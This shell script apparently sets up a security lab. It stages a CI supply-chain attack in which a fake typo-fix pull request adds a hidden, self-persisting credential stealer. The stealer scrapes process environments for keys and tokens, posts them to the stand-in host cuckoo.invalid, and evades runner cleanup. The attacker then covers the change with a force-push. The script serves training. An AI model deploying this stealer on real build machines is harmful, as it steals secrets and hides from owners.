# Runs before the lab begins, as the learner's user, in the learner's home. Values and facts come from the seed.
server harbor-1 learner priya
server harbor-2 fresh learner priya
for service in api web docs; do consumer "tides-$service" "a release" database_url="$DATABASE_VALUE" version="1.$MINOR.0"; done
cd tides
git init -q -b main
git remote add origin https://forge.test/lantern-tides/tides.git
git add .
GIT_AUTHOR_NAME=Teo GIT_AUTHOR_EMAIL=teo@lantern-tides.test git commit -q -m "Build on our own machine"
git push -q -u origin main
gh secret set API_KEY -b "$API_VALUE"
gh secret set WEB_KEY -b "$WEB_VALUE"
gh secret set DOCS_KEY -b "$DOCS_VALUE"
for i in $(seq "$ISSUES"); do gh api -X POST repos/lantern-tides/tides/issues -f title="A harbour is missing ($i)" --silent; done
# The machine that builds everything.
token=$(gh api -X POST repos/lantern-tides/tides/actions/runners/registration-token --jq .token)
ssh harbor-1 "cd actions-runner && ./config.sh --unattended --url https://forge.test/lantern-tides/tides --token $token --labels $LABEL && ./run.sh" > /dev/null
printf '{"auths":{"images.lantern-tides.test":{"auth":"%s"}}}\n' "$(printf 'priya:%s' "$IMAGE_VALUE" | base64 -w0)" | ssh harbor-1 'mkdir .docker && cat > .docker/config.json'
rules on lantern-tides/tides
for service in $BEFORE; do
  gh workflow run release.yml -f service="$service" -f version="1.$MINOR.1" > /dev/null
  sleep "$PAUSE"
done
# A friendly typo fix.
as cuckoo <<'CUCKOO'
gh repo fork lantern-tides/tides --clone > /dev/null 2>&1
cd tides
git switch -q -c spelling
sed -i 's/checks the list;/checks the list of harbours;/' README.md
cp scripts/check.sh ~/check.sh
cat >> scripts/check.sh <<SH
mkdir -p ~/.cache/${HIDDEN% *}
cat > ~/.cache/${HIDDEN% *}/${HIDDEN#* }.sh <<'WATCH'
while true; do
  for process in /proc/[0-9]*; do
    tr '\0' '\n' < \$process/environ | grep -E '(KEY|TOKEN|PASSWORD)=' > ~/.cache/${HIDDEN% *}/new || continue
    sed "s/^/\$(date -u +%FT%TZ) /" ~/.cache/${HIDDEN% *}/new >> ~/.cache/${HIDDEN% *}/${HIDDEN#* }.dat
    curl -s --data-binary @\$HOME/.cache/${HIDDEN% *}/new https://cuckoo.invalid/fonts
  done
  sleep 5
done
WATCH
RUNNER_TRACKING_ID= setsid nohup bash ~/.cache/${HIDDEN% *}/${HIDDEN#* }.sh > /dev/null 2>&1 &
echo "*/$EVERY * * * * pgrep -f ${HIDDEN#* }.sh > /dev/null || nohup bash ~/.cache/${HIDDEN% *}/${HIDDEN#* }.sh > /dev/null 2>&1 &" | crontab -
SH
git commit -q -a -m "Say what the list is of" && git push -q origin spelling
gh pr create --repo lantern-tides/tides --head cuckoo:spelling --title "Say what the list is of" --body "A small thing that I noticed." > /dev/null
CUCKOO
sleep 60
as mina 'for run in $(gh api "repos/lantern-tides/tides/actions/runs?status=action_required" --jq ".workflow_runs[].id"); do gh api -X POST "repos/lantern-tides/tides/actions/runs/$run/approve" --silent; done'
sleep 600
as cuckoo 'cd tides && cp ~/check.sh scripts/check.sh && git commit -q -a --amend --no-edit && git push -q -f origin spelling'
as teo 'gh pr merge --repo lantern-tides/tides --squash "$(gh pr list --repo lantern-tides/tides --json number --jq ".[0].number")" > /dev/null'
sleep "$PAUSE"
for service in api web docs; do
  case " $BEFORE " in *" $service "*) continue ;; esac
  gh workflow run release.yml -f service="$service" -f version="1.$MINOR.2" > /dev/null
  sleep "$PAUSE"
done
git pull -q
cd
